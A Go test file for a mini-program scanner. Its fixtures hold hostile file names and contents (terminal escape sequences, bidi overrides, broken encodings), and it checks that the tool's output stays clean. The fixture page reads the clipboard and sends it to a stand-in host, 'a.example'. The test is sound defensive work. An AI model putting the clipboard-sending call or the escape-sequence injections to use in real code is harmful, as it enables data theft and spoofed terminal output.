package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"encoding/xml"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"
	"unicode/utf8"
)

// utf16Of is a text as some editors save it; order is of its bytes.
func utf16Of(text string, order binary.ByteOrder) string {
	var b []byte
	for _, u := range utf16.Encode([]rune("\ufeff" + text)) {
		b = append(b, 0, 0)
		order.PutUint16(b[len(b)-2:], u)
	}
	return string(b)
}

// hostileFiles are those of a program whose names and texts try to get into what is
// printed as they are, or are in other encodings.
func hostileFiles() map[string]string {
	const call = "wx.getClipboardData({ success(r) { wx.request({ url: 'https://a.example/\x1b[2J\u009b31m\u202e', data: r.data }) } })"
	page := "Page({ tap() { " + call + " } }) // \x1b]0;title\x07 \u202e\u2066 \r \x00"
	pages := map[string]string{
		"plain/p": page, "bom/p": "\ufeff" + page, "invalid/p": page + " // \xff\xfe\xed\xa0\x80",
		"utf16le/p": utf16Of(page, binary.LittleEndian), "utf16be/p": utf16Of(page, binary.BigEndian),
		"gbk/p": "Page({ data: { t: '\xc4\xe3\xba\xc3' }, tap() { " + call + " } })", "latin1/p": "Page({ data: { t: 'caf\xe9' }, tap() { " + call + " } })",
		"surrogate/p":          `Page({ tap() { wx.getClipboardData({ success(r) { wx.request({ url: 'https://a.example/\ud800', data: { '\udc00': r.data } }) } }) } })`,
		"name\x1b[31m\u202e/p": page, "a\u0301中😀/p": page, "quote\"'<&>`|/p": page, "new\nline/p": page,
	}
	files := map[string]string{"app.js": "App({})"}
	var list []string
	for name, text := range pages {
		files[name+".js"] = text
		files[name+".wxml"] = "<view bindtap=\"tap\" class=\"\x1b[31m\ud7ff\xff\">\x1b[2J{{\x1b}}</view><\x1b>"
		files[name+".json"] = `{"usingComponents": {"x\u001b[31m\ud800": "./missing\u001b]0;x\u0007\udc00` + "\x1b\xff" + `"}}`
		list = append(list, name)
	}
	text, _ := json.Marshal(append(list, "missing\x1b[31m", "missing\u202e"))
	files["app.json"] = `{"pages": ` + string(text) + `, "\ud800\u001b": 1, "\ud800\u001b": 2, "permission": {"scope.userLocation": {"desc": "\udfff"}}}`
	return files
}

// TestHostileOutput: whatever a program holds, what is printed of it is valid UTF-8, is
// what its format says, and has no control characters that a terminal would obey. Formats
// for programs may hold characters that turn the direction of text.
func TestHostileOutput(t *testing.T) {
	dir := t.TempDir()
	for name, text := range hostileFiles() {
		file := filepath.Join(dir, filepath.FromSlash(name))
		if err := errors.Join(os.MkdirAll(filepath.Dir(file), 0o755), os.WriteFile(file, []byte(text), 0o644)); err != nil {
			t.Skip("this file system does not take such names: ", err)
		}
	}
	os.WriteFile(filepath.Join(dir, "\xff\xed\xa0\x80\x1b.js"), []byte("App({})"), 0o644) // not everywhere
	checks := map[string]func(string) error{
		"text": nil, "github": nil, "markdown": nil, "html": nil,
		"json": validJSON, "sarif": validJSON, "rdjson": validJSON, "rdjsonl": validLines, "gitlab": validJSON, "checkstyle": validXML,
	}
	for format, check := range checks {
		t.Run(format, func(t *testing.T) {
			var out, errs bytes.Buffer
			status := run([]string{"check", "--format", format, "--verbose", dir}, &out, &errs)
			if status != Found || strings.Contains(errs.String(), "internal error") {
				t.Errorf("status %d: %s", status, errs.String())
			}
			printable(t, errs.String(), false)
			printable(t, out.String(), check != nil)
			if check != nil {
				if err := check(out.String()); err != nil {
					t.Error(err)
				}
			}
		})
	}
	for _, args := range [][]string{{"inventory"}, {"inventory", "--format", "csv"}, {"inventory", "--format", "md"}, {"inventory", "--format", "json"}, {"why", "wx.getClipboardData"}, {"replay"}} {
		t.Run(strings.Join(args, " "), func(t *testing.T) {
			var out, errs bytes.Buffer
			if status := run(append(args, dir), &out, &errs); status == NotRun {
				t.Error(errs.String())
			}
			printable(t, errs.String(), false)
			printable(t, out.String(), false)
		})
	}
}

func printable(t *testing.T, text string, data bool) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Error("not valid UTF-8")
	}
	for line := range strings.Lines(text) {
		for _, r := range strings.TrimSuffix(line, "\n") {
			if unicode.IsControl(r) && r != '\t' || !data && (r >= '\u202a' && r <= '\u202e' || r >= '\u2066' && r <= '\u2069') {
				t.Errorf("%U in %.200q", r, line)
				break
			}
		}
	}
}

func validJSON(text string) error {
	var v any
	return json.Unmarshal([]byte(text), &v)
}

func validLines(text string) error {
	for line := range strings.Lines(text) {
		if err := validJSON(line); err != nil {
			return err
		}
	}
	return nil
}

func validXML(text string) error {
	d := xml.NewDecoder(strings.NewReader(text))
	for {
		if _, err := d.Token(); err != nil {
			if err == io.EOF {
				return nil
			}
			return err
		}
	}
}
